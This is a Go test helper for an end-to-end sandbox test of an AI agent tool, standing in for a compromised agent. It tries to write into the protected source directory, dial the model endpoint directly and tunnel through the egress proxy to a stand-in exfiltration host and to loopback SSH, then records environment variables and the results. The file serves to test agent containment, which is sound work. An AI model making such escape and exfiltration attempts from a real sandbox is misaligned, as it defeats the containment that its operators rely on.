// Command hostile stands in for a compromised agent in the sandbox e2e
// test: mounted as the aicr binary, it tries to escape and writes what
// each attempt came to into its agent dir, for the test to check.
package main

import (
	"encoding/json"
	"fmt"
	"net"
	"net/url"
	"os"
	"strings"
	"time"

	"bufio"
	"net/http"
)

type report struct {
	WriteSrc       string   `json:"write_src"`
	DialModel      string   `json:"dial_model"`
	ProxyExfil     string   `json:"proxy_exfil"`
	ProxyLoopback  string   `json:"proxy_loopback"`
	Env            []string `json:"env"`
	ModelReachable bool     `json:"model_reachable_directly"`
}

func errText(err error) string {
	if err == nil {
		return "ok"
	}
	return err.Error()
}

func connect(socket, addr string) error {
	c, err := net.DialTimeout("unix", socket, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", addr, addr)
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	if err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("proxy answered %s", resp.Status)
	}
	return nil
}

func main() {
	var r report
	r.WriteSrc = errText(os.WriteFile("/workspace/src/pwned", []byte("x"), 0o644))

	var pf struct {
		Agent struct {
			LLM struct{ BaseURL string }
		}
		EgressSocket string `json:"egress_socket"`
	}
	if b, err := os.ReadFile("/workspace/agent/pass.json"); err == nil {
		json.Unmarshal(b, &pf)
	}
	if u, err := url.Parse(pf.Agent.LLM.BaseURL); err == nil && u.Host != "" {
		c, err := net.DialTimeout("tcp", u.Host, 5*time.Second)
		if c != nil {
			c.Close()
		}
		r.DialModel = errText(err)
	} else {
		r.DialModel = "no base_url in pass.json"
	}
	r.ProxyExfil = errText(connect(pf.EgressSocket, "exfil.example.net:443"))
	r.ProxyLoopback = errText(connect(pf.EgressSocket, "127.0.0.1:22"))
	for _, kv := range os.Environ() {
		name, _, _ := strings.Cut(kv, "=")
		if name == "AICR_LLM_API_KEY" {
			// The agent's own key is meant to be here; keep it out of the file.
			kv = name + "=<present>"
		}
		r.Env = append(r.Env, kv)
	}
	b, _ := json.MarshalIndent(r, "", "  ")
	if err := os.WriteFile("/workspace/agent/hostile.json", b, 0o644); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
}
